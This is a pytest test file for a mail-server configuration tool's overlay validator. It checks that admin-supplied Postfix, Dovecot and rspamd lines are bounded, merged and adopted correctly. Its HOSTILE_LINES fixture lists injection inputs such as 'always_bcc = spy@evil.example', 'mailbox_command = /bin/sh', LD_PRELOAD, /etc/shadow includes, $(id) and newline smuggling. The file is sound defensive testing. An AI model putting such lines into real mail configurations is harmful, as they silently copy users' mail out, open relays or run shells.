"""An administrator's own lines: which ones settings may have, merging, and taking over edits by hand."""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from mailkeep.core.errors import Failure
from mailkeep.mail.daemons import actions, overlays, render
from mailkeep.mail.daemons.paths import InstancePaths
from mailkeep.run.runtime import overlay_files
from mailkeep.settings import check_overlay
from mailkeep.settings.overlays import ALLOWED
from tests.mail.daemons.test_render import FACTS, settings

POSTFIX, DOVECOT = ("postfix", "main.cf"), ("dovecot", "dovecot.conf")
GROUPS, OPTIONS = ("rspamd", "local.d/groups.conf"), ("rspamd", "local.d/options.inc")
SPF, GREYLIST, DMARC = (("rspamd", f"local.d/{name}.conf") for name in ("spf", "greylist", "dmarc"))

ALLOWED_LINES = {
    POSTFIX: [
        "smtpd_client_connection_rate_limit = 30\n# a comment\n\nsmtpd_timeout=30s",
        "smtpd_banner = mail.example ESMTP",
        "smtp_tls_exclude_ciphers = aNULL, MD5",
    ],
    DOVECOT: [
        "mail_max_userip_connections = 20\nprotocol imap {\n  mail_max_userip_connections = 100\n}\n",
        "service imap-login {\n process_min_avail = 4\n service_count=0\n}",
        "imap_client_workarounds = delay-newmail tb-extra-mailbox-sep",
    ],
    GROUPS: [
        'group "rbl" {\n  max_score = 10;\n  symbols {\n    "RCVD_IN_DNSWL" { weight = -1.5; }\n  }\n}',
        "group rbl { max_score = 10 }",
    ],
    ("rspamd", "local.d/greylist.conf"): ["timeout = 10min;\nexpire = 1d"],
    ("rspamd", "local.d/mime_types.conf"): ["bad_extensions { docm = 4; }"],
}
HOSTILE_LINES = {
    POSTFIX: [
        "import_environment = LD_PRELOAD=/tmp/x.so",
        "export_environment = MAIL_CONFIG",
        "mailbox_command = /bin/sh",
        "shlib_directory = no",
        "default_transport = pipe:",
        "virtual_transport = smtp:[203.0.113.1]",
        "virtual_alias_maps = regexp:/tmp/all",
        "smtpd_milters = inet:203.0.113.1:25",
        "queue_directory = /tmp",
        "command_directory = /tmp",
        "always_bcc = spy@evil.example",
        "relayhost = evil.example",
        "mynetworks = 0.0.0.0",
        "smtpd_relay_restrictions = permit",
        "smtpd_client_restrictions = check_policy_service",
        "myhostname = other.example",
        "smtpd_banner = $mail_version",
        "smtpd_banner = ${stress?x}",
        "smtpd_timeout = 30s\n  , pipe",
        "smtpd_timeout = 30s\r\nrelayhost = evil.example",
        "smtpd_timeout = 30s\x00",
        "smtpd_timeout = 30s\u2028relayhost = evil.example",
        "smtpd_timeout = 30s \\",
        "smtpd_banner = /etc/shadow",
        "smtpd_banner = regexp:x",
        "smtpd_banner = { x }",
        "smtpd_timeout = 30s\nsmtpd_timeout = 40s",
        "smtpd_timeout",
        "-o smtpd_timeout= 30s",
        "smtpd_timeout = $(id)",
        "smtpd_banner = proxy:unix:passwd.byname",
        "smtpd_banner = x # relayhost = y",
        "smtpd_timeout\xa0= 30s",
        "\u0455mtpd_timeout = 30s",  # Cyrillic
        "smtpd_banner = m\u202eail",
        "smtpd_banner = \uff04mail_version",
        "smtpd_timeout = 30s\x85relayhost = evil.example",
        "smtpd_timeout = 30s\x0brelayhost = evil.example",
        "smtpd_timeout = 30s\n\trelayhost = evil.example",
        "# a comment\n relayhost = evil.example",
        f"smtpd_banner = {'x' * 70_000}",
        "smtpd_banner = \udcff",
    ],
    DOVECOT: [
        "!include /etc/shadow",
        "!include_try /tmp/x",
        "mail_plugins = evil",
        "mail_plugin_dir = /tmp",
        "login_greeting = </etc/shadow",
        "login_greeting = $(id)",
        "login_greeting = %{system:x}",
        'login_greeting = "x" # \\',
        "service exec {\n executable = /bin/sh\n}",
        "service imap {\n executable = imap-evil\n}",
        "service imap {\n unix_listener x {\n mode = 0666\n}\n}",
        "plugin {\n sieve_plugins = sieve_extprograms\n}",
        "passdb {\n driver = static\n}",
        "disable_plaintext_auth = no",
        "auth_verbose_passwords = plain",
        "mail_location = maildir:/tmp",
        "protocol imap {\nmail_max_userip_connections = 50",
        "}\nssl = no",
        "import_environment = LD_PRELOAD",
        "auth_master_user_separator = +",
        "mail_debug = yes }\nssl = no",
        "protocol imap { mail_plugins = x }",
        "protocol imap {\n!include /x\n}",
        "protocol lmtp {\nmail_max_userip_connections = 50\n}",
        "remote 192.0.2.0/24 {\nmail_debug = yes\n}",
        "mail_debug = yes # \\\nssl = no",
        "login_greeting = $mail_location",
        "mail_debug =\u2029yes",
        "!include_try = x",
    ],
    GROUPS: [
        ".include /tmp/x",
        '.include(try=true) "/tmp/x"',
        ".lua /tmp/x.lua",
        'lua = "/tmp/x.lua"',
        "group x {\n .include /tmp/x\n}",
        'group "x" { symbols { "Y" { weight = <<EOD\nos.execute()\nEOD\n} } }',
        'group "x" { symbols { "Y" { callback = "return 1"; } } }',
        'group "x" { max_score = "${DBDIR}"; }',
        'group "x" { max_score = $DBDIR; }',
        "group x { max_score = 1; } }",
        "group x { max_score = 1;",
        "/* */ group x { max_score = 1; }",
        'group "../x" { max_score = 1; }',
        ".priority 10\ngroup x { max_score = 1; }",
        '.load(try=true, key="x") "/etc/shadow"',
        "group x { max_score = 1; } /* } */",
        'group x { # }\n symbols { "Y" { weight = 1; } }',
        'group x { max_score = 1; }, lua = "x"',
        "group x [ max_score = 1 ]",
        "group 'x' { max_score = 1; }",
        'group x { max_score: "${LOCAL_CONFDIR}"; }',
        "group x { max_score = 1\x00; }",
        "group x { max_score = <<E\n1\nE\n}",
    ],
    OPTIONS: ['lua_path = "x"', 'plugins_dir = "x"', 'dns { nameserver = "203.0.113.1"; }', 'tempdir = "x"'],
    ("rspamd", "local.d/mime_types.conf"): ["bad_extensions { .include = 4; }", 'bad_extensions { ".include" = 4; }'],
    ("rspamd", "local.d/multimap.conf"): ["x { map = y; }"],
    ("rspamd", "local.d/../x"): ["x = 1"],
    ("redis", "redis.conf"): ["loadmodule x"],
    ("postfix", "master.cf"): ["evil unix - n n - - pipe"],
}


def test_hostile_lines_are_refused_and_plain_ones_are_not():
    assert sum(map(len, HOSTILE_LINES.values())) >= 40
    for place, texts in ALLOWED_LINES.items():
        assert [(text, check_overlay(*place, text)) for text in texts] == [(text, []) for text in texts]
    for place, texts in HOSTILE_LINES.items():
        assert [text for text in texts if not check_overlay(*place, text)] == []


def test_an_error_names_the_line_and_the_parameter():
    assert check_overlay(*POSTFIX, "# x\nsmtpd_timeout = 30s\nmynetworks = 0") == [
        "line 3: mynetworks can't be set here"
    ]
    assert check_overlay(*DOVECOT, "service exec {\n}") == ["line 1: service exec can't be set here"]
    assert check_overlay(*GROUPS, "group x {\n y = 3\n}") == ["line 2: group/x/y can't be set here"]
    assert check_overlay(*POSTFIX, "x" * 70_000)[0].endswith("64 KiB")


def test_allowed_parameters_are_none_of_our_templates_and_exist():
    ours = render.render_all(settings(), FACTS)
    main_cf = actions.list_parameters("postfix", ours["postfix"]["main.cf"])
    assert not ALLOWED.postfix.keys() & main_cf.keys()
    master_cf = ours["postfix"]["master.cf"]
    assert {name for name in ALLOWED.postfix if f" {name}=" in master_cf} == {
        "smtpd_client_connection_count_limit",  # no limits on the sockets of our own processes
        "smtpd_error_sleep_time",
    }
    dovecot = actions.list_parameters("dovecot", ours["dovecot"]["dovecot.conf"])
    assert ALLOWED.dovecot.keys() & dovecot.keys() == {
        "protocol/mail_max_userip_connections", "service/process_limit"
    }  # fmt: skip


def test_the_documentation_has_all_allowed_parameters_with_their_values():
    rows = {f"| `{name}` | {spec} |" for name, spec in (*ALLOWED.postfix.items(), *ALLOWED.dovecot.items())} | {
        f"| {', '.join(f'`{file}`' for file in files.split(', '))} | `{name}` | {spec} |"
        for files, specs in ALLOWED.rspamd.items()
        for name, spec in specs.items()
    }
    documented = Path("docs/howto/overlays.md").read_text("utf-8").partition("### From an edit by hand")[0].splitlines()
    found = {line for line in documented if line.startswith("| `")}
    assert (rows - found, found - rows) == (set(), set())


VALUES = [  # how a parameter is set, values that are possible, and values that are not
    (
        (*POSTFIX, "smtp_connect_timeout = {}"),
        ["10s", "10m", "1m"],
        ["banana", "9s", "11m", "30", "-30s", "30 s", "1h", "1e2s", "", "99999999999999s", "\u0663\u0660s"],
    ),
    ((*POSTFIX, "hopcount_limit = {}"), ["30", "100"], ["3", "29", "101", "0x40", "50s", "1_00", "nan", "+50"]),
    ((*POSTFIX, "smtpd_client_message_rate_limit = {}"), ["30"], ["1", "0", "29"]),
    ((*POSTFIX, "anvil_rate_time_unit = {}"), ["30s", "10m"], ["1d", "1s"]),
    ((*POSTFIX, "smtp_tls_mandatory_ciphers = {}"), ["medium", "high"], ["null", "low", "HIGH", "high medium"]),
    ((*POSTFIX, "smtp_tls_exclude_ciphers = {}"), ["aNULL", "aNULL, RC4", "MD5 DES"], ["ALL", "aNULL, AES", ""]),
    ((*POSTFIX, "smtp_randomize_addresses = {}"), ["yes", "no"], ["true", "maybe", "1"]),
    ((*POSTFIX, "smtpd_banner = {}"), ["mail.example ESMTP"], ["", "x" * 201]),
    ((*DOVECOT, "imap_idle_notify_interval = {}"), ["30s", "2 mins", "29m"], ["30", "1s", "1h", "30ms", "x"]),
    ((*DOVECOT, "imap_max_line_length = {}"), ["64k", "1M", "65536", "64 k"], ["1k", "2M", "1G", "-64k"]),
    ((*DOVECOT, "service imap {{\nprocess_limit = {}\n}}"), ["100"], ["1", "99999", "many"]),
    ((*DOVECOT, "pop3_client_workarounds = {}"), ["oe-ns-eoh outlook-no-nuls"], ["oe", ""]),
    ((*GREYLIST, "timeout = {};"), ["10min", "300", "300s", "1h"], ["10m", "0.001", "2h", '"10min"', "nan", "5ms"]),
    ((*GREYLIST, "max_data_len = {};"), ["10k", "10kb", "1024"], ["1", "10g"]),
    (
        (*GROUPS, "group x {{ symbols {{ Y {{ score = {}; }} }} }}"),
        ["10", "-1.5", "0"],
        ["nan", "inf", "-inf", "10.1", "1e1", "1k", '"5"', "NaN", "true"],
    ),
    ((*GROUPS, "group x {{ symbols {{ Y {{ one_shot = {}; }} }} }}"), ["true", "no"], ["1", '"true"']),
    ((*DMARC, "actions {{ softfail = {}; }}"), ['"no action"', "add_header"], ["reject", "discard"]),
    ((*OPTIONS, "task_timeout = {}"), [], ["0.001", "8s"]),
]  # fmt: skip


@pytest.mark.parametrize("how, possible, impossible", VALUES, ids=[how[2].partition(" =")[0] for how, _, _ in VALUES])
def test_values_have_a_type_and_bounds(how: tuple[str, str, str], possible: list[str], impossible: list[str]):
    service, path, form = how
    errors = {value: check_overlay(service, path, form.format(value)) for value in (*possible, *impossible)}
    assert [value for value, error in errors.items() if not error] == possible


def test_an_error_names_what_is_expected():
    assert check_overlay(*POSTFIX, "hopcount_limit = 50\nsmtp_connect_timeout = banana") == [
        "line 2: smtp_connect_timeout: expected a time from 10s to 10m, with its unit: s, m, h, d or w, not 'banana'"
    ]
    assert check_overlay(*GREYLIST, "timeout = 10m;") == [
        "line 1: timeout: expected a time from 1m to 1h, in seconds or with its unit: s, min, h, d or w, not '10m'"
    ]


@pytest.mark.skipif(not shutil.which("doveconf"), reason="needs the daemons")
def test_every_allowed_parameter_is_known_to_its_daemon(tmp_path: Path):
    known = _names("postconf", "-d")
    assert ALLOWED.postfix.keys() - known == set()
    assert {name.rpartition("/")[2] for name in ALLOWED.dovecot} - _names("doveconf", "-a", "-d") == set()


def _names(*argv: str) -> set[str]:
    output = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=30).stdout
    return {line.partition("=")[0].strip() for line in output.splitlines()}


def test_lines_are_merged_and_replace_those_of_root_and_ours():
    environ = {
        "OVERLAYS__POSTFIX": "smtpd_timeout = 30s",
        "OVERLAYS__DOVECOT": "mail_debug = yes\n",
        "OVERLAYS__RSPAMD": '{"greylist.conf": "timeout = 300;", "groups.conf": "group x { max_score = 1; }"}',
    }
    of_root = {"main.cf": "smtpd_timeout = 7s\nmydestination = a,\n  b\nmyhostname = root.example\n"}
    facts = replace(FACTS, overlays={"postfix": of_root})
    plain, merged = render.render_all(settings(), FACTS), render.render_all(settings(**environ), facts)
    main_cf = actions.list_parameters("postfix", merged["postfix"]["main.cf"])
    assert main_cf["smtpd_timeout"] == ["30s"]
    assert (main_cf["mydestination"], main_cf["myhostname"]) == (["a, b"], ["root.example"])
    assert merged["dovecot"]["dovecot.conf"] == (
        f"{plain['dovecot']['dovecot.conf']}{overlays.OF_SETTINGS}\nmail_debug = yes\n"
    )
    assert merged["rspamd"]["local.d/greylist.conf"].endswith("\ntimeout = 300;\n")
    assert merged["rspamd"]["local.d/groups.conf"].endswith("\ngroup x { max_score = 1; }\n")
    changes = actions.list_changes(
        "postfix", "main.cf", plain["postfix"]["main.cf"], plain["postfix"]["main.cf"] + "smtpd_timeout = 30s\n"
    )
    assert changes == {"main.cf: smtpd_timeout": "reload"}


MAIN_CF = "# ours\nmyhostname = a\nsmtpd_helo_required = yes\n"
OWN = f"{MAIN_CF}{overlays.OF_SETTINGS}\nsmtpd_timeout = 15s\n"


@pytest.mark.parametrize(
    "place, original, edited, text, leftover",
    [
        (POSTFIX, MAIN_CF, MAIN_CF + "smtpd_timeout =\n  17s\n", "smtpd_timeout = 17s\n", ""),
        (POSTFIX, OWN, OWN + "max_idle = 30s\n", "smtpd_timeout = 15s\nmax_idle = 30s\n", ""),
        (POSTFIX, OWN, OWN.replace("# ours", "smtpd_timeout = 19s"), "smtpd_timeout = 19s\n", ""),
        (POSTFIX, OWN, MAIN_CF, "", ""),
        (POSTFIX, MAIN_CF, MAIN_CF.replace("= a", "= b"), "", "myhostname = b: myhostname can't be set here"),
        (POSTFIX, MAIN_CF, MAIN_CF.replace("myhostname = a\n", ""), "", "removed: myhostname"),
        (POSTFIX, MAIN_CF, MAIN_CF + "max_idle = /x\nmax_use = 50\n", "max_use = 50\n", "max_idle = /x: max_idle: a"),
        (
            DOVECOT,
            "ssl = required\nprotocol imap {\n  mail_max_userip_connections = 50\n}\n",
            "ssl = required\nmail_debug = yes\nprotocol imap {\n  mail_max_userip_connections = 80\n}\n",
            "mail_debug = yes\nprotocol imap {\nmail_max_userip_connections = 80\n}\n",
            "",
        ),
        (DOVECOT, "ssl = required\n", "ssl = no\n", "", "ssl = no: ssl can't be set here"),
        (DOVECOT, "a {\n b {\n c = 1\n }\n}\n", "a {\n b {\n }\n}\n", "", "removed: a { b { c = 1"),
        (GROUPS, "", "group x { max_score = 1; }\n", "group x { max_score = 1; }\n", ""),
        (SPF, "x {\n}\n", "min_cache_ttl = 5min;\nx {\n}\n", "min_cache_ttl = 5min;\n", ""),
        (SPF, "dns {\n}\n", "dns {\n timeout = 5s;\n}\n", "", " timeout = 5s;: timeout can't be set here"),
        (("rspamd", "rspamd.local.lua"), "x = 1\n", "x = 2\n", "", "removed: x = 1"),
    ],
)  # fmt: skip
def test_edits_by_hand_become_lines_of_the_settings(
    place: tuple[str, str], original: str, edited: str, text: str, leftover: str
):
    found, remaining = overlays.adopt(*place, original, edited)
    assert (found, bool(remaining)) == (text, bool(leftover))
    assert not leftover or remaining[0].startswith(leftover)


def test_files_of_root_may_have_anything_but_only_root_may_write(tmp_path: Path):
    paths = InstancePaths(tmp_path, tmp_path / "run")
    assert overlay_files.read(paths) == {}
    main_cf, module = paths.overlays / "postfix/main.cf", paths.overlays / "rspamd/local.d/multimap.conf"
    for path in (main_cf, module):
        path.parent.mkdir(parents=True)
        path.write_text("mailbox_command = /bin/sh\n")
    assert overlay_files.read(paths) == {
        "postfix": {"main.cf": "mailbox_command = /bin/sh\n"},
        "rspamd": {"local.d/multimap.conf": "mailbox_command = /bin/sh\n"},
    }
    for path in (main_cf, module.parent, paths.overlays):
        mode = path.stat().st_mode
        path.chmod(mode | 0o020)
        with pytest.raises(Failure, match=f"{path} can't be used: root must be its owner"):
            overlay_files.read(paths)
        path.chmod(mode)
    for text in (" continued\n", "a = 1\r\n", "a\0"):
        main_cf.write_bytes(text.encode())
        with pytest.raises(Failure, match=r"main\.cf can't be used"):
            overlay_files.read(paths)
    main_cf.unlink()
    main_cf.symlink_to("/etc/hostname")
    with pytest.raises(Failure, match="no link"):
        overlay_files.read(paths)
    main_cf.rename(main_cf.with_name("master.cf"))
    with pytest.raises(Failure, match=r"expected main\.cf"):
        overlay_files.read(paths)
